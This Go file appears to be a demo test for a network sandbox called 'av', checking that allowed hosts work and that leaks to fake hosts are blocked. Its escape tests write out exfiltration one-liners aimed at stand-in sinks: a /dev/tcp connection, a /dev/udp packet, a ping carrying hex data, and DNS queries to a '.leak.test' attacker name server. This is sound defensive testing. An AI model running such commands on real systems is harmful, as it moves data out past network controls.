package main

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/av-project/av/scripts/fakenet"
)

// arrival bounds how long the demo waits for a packet that should arrive.
const arrival = 10 * time.Second

func (d *demo) catch() {
	m := marker()
	out, said, err := d.box("curl -sS --noproxy '*' https://" + fakenet.APIName + "/v1/hello?" + m)
	if err == nil && (strings.TrimSpace(out) != `{"hello":"world"}` || len(d.internet.API().Requests(m)) != 1) {
		err = fmt.Errorf("it got %q", out)
	}
	d.check("curl --noproxy '*' reaches what policy allows, credential and all", withOutput(err, said))
	m = marker()
	visit := func(host string) string {
		return "curl -sS --noproxy '*' https://" + host + "/ https://" + fakenet.SinkAddr.String() + "/"
	}
	_, _, _ = d.box(visit(m+".attacker.test"), "--allow", m+".attacker.test")
	d.check("when another host is allowed, its name is looked up on the host (control)", d.present(m, fakenet.DNS))
	m = marker()
	_, said, err = d.box(visit(m + ".attacker.test"))
	switch {
	case err == nil:
		err = errors.New("curl succeeded")
	case !strings.Contains(said, m):
		err = fmt.Errorf("av did not say so: %s", said)
	default:
		err = d.absent(m)
	}
	d.check("when it is not, it is refused, and its name is never looked up", err)
	if _, line, ok := strings.Cut(said, "av: "); ok {
		fmt.Printf("        av said: %s\n", strings.TrimSpace(line))
	}
}

func (d *demo) escape() {
	sink := fakenet.SinkAddr.String()
	for _, try := range []struct {
		what string
		kind fakenet.Kind
		line func(m string) string
	}{
		{"a direct connection", fakenet.TCP, func(m string) string {
			return "exec 3<>/dev/tcp/" + sink + "/443 && echo " + m + " >&3"
		}},
		{"a UDP packet", fakenet.UDP, func(m string) string {
			return "echo " + m + " >/dev/udp/" + sink + "/123"
		}},
		{"a ping", fakenet.ICMP, func(m string) string {
			return "ping -c 1 -W 2 -p " + hex.EncodeToString([]byte(m)) + " " + sink
		}},
		{"a DNS query of the system's resolver", fakenet.DNS, func(m string) string {
			return "getent hosts " + m + ".leak.test"
		}},
		{"a DNS query of the attacker's name server", fakenet.DNS, func(m string) string {
			return fmt.Sprintf(`python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\x0c%s\4leak\4test\0\0\1\0\1", ("%s", 53))'`, m, fakenet.DNSAddr)
		}},
	} {
		m := marker()
		err := d.plain(try.line(m))
		if err == nil {
			err = d.present(m, try.kind)
		}
		d.check("without av, "+try.what+" leaves (control)", err)
		m = marker()
		_, said, _ := d.box(try.line(m) + "; echo attempted >&2")
		err = d.absent(m)
		if !strings.Contains(said, "attempted") {
			err = fmt.Errorf("it was not even tried: %s", said)
		}
		d.check("with av, it does not", err)
	}
}

// present waits for what carries the marker to arrive in the fake internet.
func (d *demo) present(m string, kind fakenet.Kind) error {
	ctx, cancel := context.WithTimeout(d.ctx, arrival)
	defer cancel()
	_, err := d.internet.Sinks().Wait(ctx, m, kind)
	return err
}

// absent tells that nothing which carries the marker has arrived: the sinks decide,
// not the word of the program that tried.
func (d *demo) absent(m string) error {
	ctx, cancel := context.WithTimeout(d.ctx, arrival)
	defer cancel()
	if err := d.internet.Settle(ctx); err != nil {
		return err
	}
	if seen := d.internet.Sinks().Seen(m); len(seen) > 0 {
		return fmt.Errorf("LEAKED: %s to %s", seen[0].Kind, seen[0].To)
	}
	return nil
}

// inventory lists what the demo's runs have on this machine.
func (d *demo) inventory() (string, error) {
	owner := d.owner()
	var all strings.Builder
	for _, list := range [][]string{
		{"docker", "ps", "-a", "--filter", "label=av.owner=" + owner, "--format", "container {{.Names}} of " + owner},
		{"docker", "network", "ls", "--filter", "label=av.owner=" + owner, "--format", "network {{.Name}} of " + owner},
		{"docker", "volume", "ls", "--filter", "label=av.owner=" + owner, "--format", "volume {{.Name}} of " + owner},
		{"iptables-save"}, {"ip6tables-save"},
	} {
		cmd := exec.CommandContext(d.ctx, list[0], list[1:]...)
		cmd.Env = append(os.Environ(), "PATH="+os.Getenv("PATH")+":/usr/sbin:/sbin")
		out, err := cmd.Output()
		if err != nil {
			return "", fmt.Errorf("%s: %w", strings.Join(list, " "), err)
		}
		for line := range strings.Lines(string(out)) {
			if strings.Contains(line, owner) {
				all.WriteString(line)
			}
		}
	}
	return all.String(), nil
}

func (d *demo) nothingLeft() {
	err := error(nil)
	if !strings.Contains(d.during, "-gate of ") || !strings.Contains(d.during, "-agent of ") {
		err = fmt.Errorf("it found only: %s", d.during)
	}
	d.check("while a box ran, the inventory found its containers (control)", err)
	after, err := d.inventory()
	if err == nil && after != "" {
		err = errors.New(after)
	}
	d.check("now it finds no container, network, volume or firewall rule", err)
	runs, err := os.ReadDir(filepath.Join(d.dir, "home", "runs"))
	if err == nil && len(runs) > 0 {
		err = fmt.Errorf("%d of them", len(runs))
	}
	d.check("no run folder", err)
	out, err := d.command(d.av, "prune").Output()
	if err == nil && len(out) > 0 {
		err = fmt.Errorf("it removed %s", out)
	}
	d.check("av prune finds nothing to do", err)
}
